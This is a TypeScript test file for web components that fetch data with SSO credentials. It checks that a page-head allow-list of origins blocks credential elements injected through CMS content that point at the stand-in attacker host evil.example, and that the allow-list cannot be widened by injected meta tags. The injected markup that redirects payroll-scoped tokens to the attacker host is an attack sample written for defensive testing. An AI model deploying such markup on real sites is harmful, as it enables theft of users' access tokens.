import { expect, fixture, html } from '@open-wc/testing';
import { HttpResponse, http } from 'msw';
import '../../../components/callout-credential/define.js';
import '../../../components/callout-get/define.js';
import type { CalloutCredential } from '../../../components/callout-credential/callout-credential.js';
import type { CalloutGet } from '../../../components/callout-get/callout-get.js';
import { type CalloutError, CalloutErrorCode, setDefaultCallout } from '../../../src/index.js';
import { capturingConsole } from '../../support/capturing-console.js';
import { useMsw } from '../../support/msw-worker.js';
import { createTestClient } from '../../support/test-client.js';
import { textOf, untilState } from '../support/wait.js';

// This file's page declares its allowed origins in <head>, as a page would in its template; the
// declaration is fixed for the life of the page, so it is made once, before any test.
const declaration = document.createElement('meta');
declaration.name = 'sso-callout-allowed-origins';
declaration.content = 'https://payroll.contoso.test, not-an-origin';
document.head.append(declaration);

const api = useMsw();
const payroll = 'https://payroll.contoso.test/api/';
const evil = 'https://evil.example/';

/** Counts requests to the attacker's API. */
function countingEvil() {
  const seen = { evil: 0, payroll: 0 };
  api.use(
    http.all(`${evil}*`, () => {
      seen.evil++;
      return HttpResponse.json({ stolen: true });
    }),
    http.all(`${payroll}*`, () => {
      seen.payroll++;
      return HttpResponse.json([{ id: 'p-1' }]);
    }),
  );
  return seen;
}

/** Runs `run` with console.error silenced (refusals are logged by design). */
const quietly = <T>(run: () => Promise<T>): Promise<T> => capturingConsole(() => run());

describe('<meta name="sso-callout-allowed-origins"> in the page head', () => {
  it('refuses an injected credential on another origin that comes before the legitimate one of the same name.', async () => {
    const { callout } = createTestClient();
    setDefaultCallout(callout);
    const errors: CalloutError[] = [];
    callout.events.addEventListener('error', (e) => errors.push(e.detail.error));
    const seen = countingEvil();
    const page = await fixture<HTMLDivElement>(html`<div><div class="cms"></div></div>`);
    const cms = page.querySelector('.cms')!;
    await quietly(async () => {
      cms.innerHTML = `<callout-credential name="Payroll" provider="aad" url="${evil}" scopes="api://payroll/Read"></callout-credential>
        <callout-get credential="Payroll" path="payslips"></callout-get>`;
      await cms.querySelector<CalloutCredential>('callout-credential')!.updateComplete;
    });
    page.insertAdjacentHTML(
      'beforeend',
      `<callout-credential name="Payroll" provider="aad" url="${payroll}" scopes="api://payroll/Read"></callout-credential>
       <callout-get credential="Payroll" path="payslips"></callout-get>`,
    );
    await untilState(page.querySelector<CalloutGet>(':scope > callout-get')!, 'data');
    await untilState(cms.querySelector<CalloutGet>('callout-get')!, 'data');
    const refused = cms.querySelector<CalloutCredential>('callout-credential')!;
    expect(seen.evil).to.equal(0);
    expect(seen.payroll).to.be.greaterThanOrEqual(1);
    expect(refused.hasAttribute('invalid')).to.equal(true);
    expect(textOf(refused)).to.contain('https://evil.example');
    expect(callout.credentials.get('Payroll')?.url).to.equal(payroll);
    expect(errors.filter((e) => e.code === CalloutErrorCode.originNotAllowed)).to.have.length(1);
  });

  it('cannot be widened by a meta injected into the body, nor by changing the one in the head.', async () => {
    const { callout } = createTestClient();
    setDefaultCallout(callout);
    const seen = countingEvil();
    const cms = await fixture<HTMLDivElement>(html`<div></div>`);
    declaration.content = 'https://payroll.contoso.test https://evil.example';
    await quietly(async () => {
      cms.innerHTML = `<meta name="sso-callout-allowed-origins" content="https://evil.example">
        <callout-credential name="Steal" provider="aad" url="${evil}" scopes="api://payroll/Read"></callout-credential>
        <callout-get credential="Steal" path="x"></callout-get>`;
      await untilState(cms.querySelector<CalloutGet>('callout-get')!, 'error');
    });
    expect(seen.evil).to.equal(0);
    expect(callout.credentials.get('Steal')).to.equal(undefined);
  });
});
